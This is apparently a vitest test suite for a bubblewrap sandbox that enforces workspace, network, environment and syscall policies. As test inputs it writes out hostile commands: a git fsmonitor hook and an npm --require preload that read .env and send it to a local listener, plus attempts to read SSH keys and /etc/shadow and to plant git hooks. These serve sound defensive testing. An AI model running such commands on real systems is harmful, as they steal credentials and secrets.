import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { readFile, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { PolicyInput } from '@plan/core'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { bubblewrapFeatures } from './bubblewrap-features.js'
import { checkSandbox, createSandbox, type SandboxRunResult } from './create-sandbox.js'
import { SandboxError } from './sandbox-error.js'
import { DENIED_SYSCALLS, type SeccompArch } from './seccomp-filter.js'
import {
  createSandboxFixture,
  describeSandbox,
  gitIdentity,
  initRepository,
  type Listener,
  listen,
  type SandboxFixture,
} from './test-utils/sandbox-fixture.js'

const TIMEOUT = 60_000

function policyFor(root: string, extra: Partial<PolicyInput> = {}): PolicyInput {
  return {
    version: 1,
    workspace: { roots: [root], deny: ['.env', 'secrets'] },
    tools: {},
    ...extra,
  }
}

/** The bubblewrap the sandbox finds on this machine. */
function checkBwrap(): string {
  const check = checkSandbox()
  if (!check.available) throw new Error(check.issue.message)
  return check.bwrap
}

function expectNoSecret(result: SandboxRunResult, secret: string): void {
  expect(result.stdout).not.toContain(secret)
  expect(result.stderr).not.toContain(secret)
}

describeSandbox('createSandbox', () => {
  let fixture: SandboxFixture
  let listener: Listener

  beforeEach(async () => {
    fixture = await createSandboxFixture()
    listener = await listen()
  })

  afterEach(async () => {
    await listener.close()
    await fixture.cleanup()
  })

  const sandboxFor = (extra: Partial<PolicyInput> = {}) =>
    createSandbox(policyFor(fixture.root, extra), { hostHome: fixture.home })

  it(
    'should let a shell write in the workspace and nowhere outside',
    async () => {
      const sandbox = sandboxFor()
      const result = await sandbox.run([
        'sh',
        '-c',
        `echo new > b.txt; echo pwned > ${fixture.outside}/planted; echo pwned > ${fixture.home}/planted; echo pwned > /usr/planted`,
      ])
      expect(await readFile(join(fixture.root, 'b.txt'), 'utf8')).toBe('new\n')
      for (const path of [
        join(fixture.outside, 'planted'),
        join(fixture.home, 'planted'),
        '/usr/planted',
      ])
        expect(existsSync(path)).toBe(false)
      expect(result.violations.some((violation) => violation.kind === 'write')).toBe(true)
    },
    TIMEOUT,
  )

  it(
    'should keep .git read-only and the deny list unreadable',
    async () => {
      initRepository(fixture.root)
      const config = join(fixture.root, '.git', 'config')
      const before = await readFile(config, 'utf8')
      const sandbox = sandboxFor()
      const write = await sandbox.run([
        'sh',
        '-c',
        'printf "[core]\\n\\tfsmonitor = x\\n" >> .git/config',
      ])
      expect(write.exitCode).not.toBe(0)
      expect(await readFile(config, 'utf8')).toBe(before)
      const read = await sandbox.run([
        'sh',
        '-c',
        'cat .env; grep -r S3CRET . ; cp .env copy.txt; dd if=.env 2>&1; rev .env',
      ])
      expectNoSecret(read, fixture.secret)
      expect(existsSync(join(fixture.root, 'copy.txt'))).toBe(false)
      expect(read.violations.map((violation) => violation.kind)).toContain('read')
    },
    TIMEOUT,
  )

  it(
    "should hide the host's credential stores and links to secrets outside",
    async () => {
      await symlink(join(fixture.outside, 'secret.txt'), join(fixture.root, 'link'))
      await symlink(join(fixture.home, '.ssh'), join(fixture.root, 'ssh-link'))
      const sandbox = sandboxFor()
      const result = await sandbox.run([
        'sh',
        '-c',
        `cat link ssh-link/id_rsa ${fixture.home}/.ssh/id_rsa ${fixture.outside}/secret.txt /etc/shadow`,
      ])
      expect(result.exitCode).not.toBe(0)
      expectNoSecret(result, fixture.secret)
      if (existsSync('/etc/shadow')) {
        const shadow = await sandbox.run(['cat', '/etc/shadow'])
        expect(shadow.exitCode).not.toBe(0)
        expect(shadow.stdout).toBe('')
      }
      // A workspace that is the home folder itself: the credential store is masked inside it.
      const atHome = createSandbox(policyFor(fixture.home), { hostHome: fixture.home })
      const inHome = await atHome.run(['sh', '-c', 'cat .ssh/id_rsa; ls -a .ssh'])
      expectNoSecret(inHome, fixture.secret)
      expect(inHome.stdout.trim().split('\n').sort()).toEqual(['.', '..'])
    },
    TIMEOUT,
  )

  it(
    'should make no connection to a host the policy does not list',
    async () => {
      const url = `http://127.0.0.1:${listener.port}/`
      const offline = await sandboxFor().run([
        'sh',
        '-c',
        `curl -sS -m 5 ${url}; wget -q -T 5 -O - ${url}; node -e "fetch('${url}').then(r => console.log(r.status), e => console.log(e.cause?.code))"`,
      ])
      expect(offline.stdout).not.toContain('listener')
      const proxied = await sandboxFor({
        sandbox: { network: { allow: ['example.invalid'] } },
      }).run([
        'sh',
        '-c',
        `curl -sS -m 5 ${url}; curl -sS -m 5 --noproxy '*' ${url}; wget -q -T 5 -O - ${url}`,
      ])
      expect(proxied.stdout).not.toContain('listener')
      expect(proxied.violations).toContainEqual(
        expect.objectContaining({ kind: 'network', target: '127.0.0.1' }),
      )
      expect(listener.connections()).toBe(0)
    },
    TIMEOUT,
  )

  it(
    'should reach a host the policy lists, through the proxy',
    async () => {
      const sandbox = sandboxFor({ sandbox: { network: { allow: ['127.0.0.1'] } } })
      const result = await sandbox.run([
        'curl',
        '-sS',
        '-m',
        '10',
        `http://127.0.0.1:${listener.port}/`,
      ])
      expect(result.stdout).toBe('listener\n')
      expect(listener.connections()).toBe(1)
    },
    TIMEOUT,
  )

  it(
    'should contain a hostile core.fsmonitor in .git/config and forget one written to HOME',
    async () => {
      initRepository(fixture.root)
      const hook = `sh -c 'touch ran; cat .env > ${fixture.outside}/stolen; echo x >> .git/config; curl -s -m 3 http://127.0.0.1:${listener.port}/ ; true'`
      execFileSync('git', ['config', 'core.fsmonitor', hook], { cwd: fixture.root })
      const config = await readFile(join(fixture.root, '.git', 'config'), 'utf8')
      const sandbox = sandboxFor()
      const status = await sandbox.run(['git', 'status', '--short'])
      expect(existsSync(join(fixture.root, 'ran'))).toBe(true)
      expect(existsSync(join(fixture.outside, 'stolen'))).toBe(false)
      expect(await readFile(join(fixture.root, '.git', 'config'), 'utf8')).toBe(config)
      expectNoSecret(status, fixture.secret)
      execFileSync('git', ['config', '--unset', 'core.fsmonitor'], { cwd: fixture.root })
      const plant = await sandbox.run([
        'sh',
        '-c',
        'printf "[core]\\n\\tfsmonitor = touch home-hook-ran\\n" > "$HOME/.gitconfig"',
      ])
      expect(plant.exitCode).toBe(0)
      const next = await sandbox.run(['git', 'status', '--short'])
      expect(next.exitCode).toBe(0)
      expect(existsSync(join(fixture.root, 'home-hook-ran'))).toBe(false)
      expect(listener.connections()).toBe(0)
    },
    TIMEOUT,
  )

  it(
    'should run npm test, and keep a planted --require preload from sending .env out',
    async () => {
      await writeFile(
        join(fixture.root, 'package.json'),
        JSON.stringify({ name: 'w', private: true, scripts: { test: 'node test.js' } }),
      )
      await writeFile(join(fixture.root, 'test.js'), "console.log('tests passed')\n")
      const sandbox = sandboxFor()
      const ordinary = await sandbox.run(['npm', 'test'])
      expect(ordinary.exitCode).toBe(0)
      expect(ordinary.stdout).toContain('tests passed')
      await writeFile(
        join(fixture.root, 'x.cjs'),
        [
          "const fs = require('node:fs')",
          "let data = 'none'",
          "try { data = fs.readFileSync('.env', 'utf8') } catch (error) { data = error.code }",
          "console.log('preload read: ' + data)",
          `try { fs.writeFileSync('${fixture.outside}/stolen', data) } catch {}`,
          `fetch('http://127.0.0.1:${listener.port}/?d=' + encodeURIComponent(data)).catch(() => {})`,
        ].join('\n'),
      )
      await writeFile(
        join(fixture.root, '.npmrc'),
        `node-options=--require ${fixture.root}/x.cjs\n`,
      )
      const hostile = await sandbox.run(['npm', 'test'])
      expect(hostile.stdout).toContain('preload read')
      expect(hostile.stdout).toContain('tests passed')
      expectNoSecret(hostile, fixture.secret)
      expect(existsSync(join(fixture.outside, 'stolen'))).toBe(false)
      expect(listener.connections()).toBe(0)
    },
    TIMEOUT,
  )

  it(
    'should still do ordinary work: read, write, git status and git commit',
    async () => {
      initRepository(fixture.root)
      const sandbox = sandboxFor({
        workspace: {
          roots: [fixture.root],
          deny: ['.env'],
          readOnly: ['.git/config', '.git/hooks'],
        },
      })
      const work = await sandbox.run([
        'sh',
        '-c',
        'cat a.txt && echo more >> a.txt && echo b > b.txt',
      ])
      expect(work).toMatchObject({ exitCode: 0, stdout: 'hello\n' })
      expect(await readFile(join(fixture.root, 'a.txt'), 'utf8')).toBe('hello\nmore\n')
      const status = await sandbox.run(['git', 'status', '--short'])
      expect(status.exitCode).toBe(0)
      expect(status.stdout).toContain('b.txt')
      const add = await sandbox.run(['git', 'add', 'a.txt', 'b.txt'])
      expect(add.exitCode).toBe(0)
      const commit = await sandbox.run(['git', 'commit', '-q', '-m', 'second'], {
        env: gitIdentity(),
      })
      expect(commit).toMatchObject({ exitCode: 0 })
      const log = execFileSync('git', ['log', '--format=%s'], {
        cwd: fixture.root,
        encoding: 'utf8',
      })
      expect(log).toBe('second\nfirst\n')
      const hooks = await sandbox.run(['sh', '-c', 'echo evil > .git/hooks/pre-commit'])
      expect(hooks.exitCode).not.toBe(0)
      expect(existsSync(join(fixture.root, '.git', 'hooks', 'pre-commit'))).toBe(false)
    },
    TIMEOUT,
  )

  it(
    'should start commands with a private HOME and TMPDIR and an allow-listed environment',
    async () => {
      process.env.PLAN_SANDBOX_TEST_SECRET = fixture.secret
      process.env.PLAN_SANDBOX_TEST_LISTED = 'listed'
      try {
        const sandbox = sandboxFor({ sandbox: { env: ['PLAN_SANDBOX_TEST_LISTED'] } })
        const first = await sandbox.run(['sh', '-c', 'env; touch "$HOME/mark" "$TMPDIR/mark"'])
        expectNoSecret(first, fixture.secret)
        const env = Object.fromEntries(
          first.stdout
            .trim()
            .split('\n')
            .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
        )
        expect(env.PLAN_SANDBOX_TEST_LISTED).toBe('listed')
        expect(env.HOME?.startsWith(fixture.root)).toBe(false)
        expect(env.TMPDIR?.startsWith(fixture.root)).toBe(false)
        const second = await sandbox.run(['sh', '-c', 'ls -A "$HOME" "$TMPDIR"'])
        expect(second.stdout).not.toContain('mark')
      } finally {
        delete process.env.PLAN_SANDBOX_TEST_SECRET
        delete process.env.PLAN_SANDBOX_TEST_LISTED
      }
    },
    TIMEOUT,
  )

  it(
    'should kill a command at its timeout, pass stdin, and cap output',
    async () => {
      const sandbox = sandboxFor()
      expect(await sandbox.run(['sleep', '30'], { timeoutMs: 200 })).toMatchObject({
        timedOut: true,
        exitCode: null,
      })
      expect(await sandbox.run(['cat'], { stdin: 'from stdin' })).toMatchObject({
        stdout: 'from stdin',
      })
      const missing = await sandbox.run(['plan-no-such-program'])
      expect(missing.exitCode).not.toBe(0)
      expect(missing.stderr).toContain('plan-no-such-program')
      const flood = await sandbox.run(['yes'], { maxOutputBytes: 1000 })
      expect(flood.truncated).toBe(true)
      expect(flood.stdout.length).toBe(1000)
    },
    TIMEOUT,
  )

  it(
    'should not let a command create a user namespace of its own',
    async () => {
      const sandbox = sandboxFor()
      expect(bubblewrapFeatures(checkBwrap()).disableUserns).toBe(true)
      for (const argv of [
        ['unshare', '--user', 'true'],
        ['unshare', '--user', '--map-root-user', '--mount', 'true'],
      ]) {
        const result = await sandbox.run(argv)
        expect(result.exitCode).not.toBe(0)
        expect(result.stderr).toMatch(/unshare failed/)
      }
      expect((await sandbox.run(['true'])).exitCode).toBe(0)
    },
    TIMEOUT,
  )

  it(
    'should refuse the system calls of its seccomp filter, which work outside it',
    async () => {
      // Each call with arguments that make it fail outside with another error than EPERM.
      const arch = process.arch as SeccompArch
      const calls = {
        ptrace: `${DENIED_SYSCALLS.ptrace?.[arch]},0,0,0,0`,
        keyctl: `${DENIED_SYSCALLS.keyctl?.[arch]},9999,0,0,0`,
        name_to_handle_at: `${DENIED_SYSCALLS.name_to_handle_at?.[arch]},-1,0,0,0,0`,
        io_uring_setup: `${DENIED_SYSCALLS.io_uring_setup?.[arch]},1,0`,
        pidfd_getfd: `${DENIED_SYSCALLS.pidfd_getfd?.[arch]},-1,0,0`,
      }
      const script =
        'for (@ARGV) { my ($n, @a) = split /,/; $! = 0; my $r = syscall($n, @a); print $r < 0 ? 0 + $! : "ok", "\\n" }'
      const argv = ['perl', '-e', script, ...Object.values(calls)]
      const outside = execFileSync(argv[0] as string, argv.slice(1), { encoding: 'utf8' })
      const inside = await sandboxFor().run(argv)
      expect(inside.exitCode).toBe(0)
      expect(inside.stdout.trim().split('\n')).toEqual(Object.values(calls).map(() => '1'))
      expect(outside.trim().split('\n')).not.toContain('1')
    },
    TIMEOUT,
  )

  it(
    'should spawn a long-lived process with piped stdio inside the same sandbox',
    async () => {
      const child = createSandbox(policyFor(fixture.root), { hostHome: fixture.home }).spawn(
        ['sh', '-c', 'read line; echo "got $line"; cat .env'],
        { cwd: fixture.root },
      )
      const out: Buffer[] = []
      child.stdout.on('data', (chunk: Buffer) => out.push(chunk))
      child.stderr.resume()
      child.stdin.end('ping\n')
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve))
      expect(code).not.toBe(0)
      expect(Buffer.concat(out).toString()).toBe('got ping\n')
    },
    TIMEOUT,
  )
})

describeSandbox('createSandbox without bubblewrap', () => {
  it('should fail closed, naming the program and how to install it', async () => {
    const sandbox = createSandbox(policyFor('/tmp'), { bwrap: 'plan-no-such-bwrap' })
    const error = await sandbox.run(['true']).catch((caught: unknown) => caught)
    expect(SandboxError.isInstance(error)).toBe(true)
    const issue = (error as SandboxError).issues[0]
    expect(issue?.code).toBe('sandbox_unavailable')
    expect(issue?.message).toContain('plan-no-such-bwrap')
    expect(issue?.hint).toContain('apt-get install -y bubblewrap')
    expect(() => sandbox.spawn(['true'])).toThrow(/not found/)
    expect(checkSandbox(policyFor('/tmp'), { bwrap: 'plan-no-such-bwrap' })).toMatchObject({
      available: false,
      issue: { code: 'sandbox_unavailable' },
    })
    expect(checkSandbox()).toMatchObject({ available: true })
  })

  it("should run without a sandbox only when told sandbox: 'none'", async () => {
    const sandbox = createSandbox(policyFor('/tmp'), {
      sandbox: 'none',
      bwrap: 'plan-no-such-bwrap',
    })
    expect(await sandbox.run(['echo', 'unsandboxed'])).toMatchObject({
      exitCode: 0,
      stdout: 'unsandboxed\n',
    })
  })
})
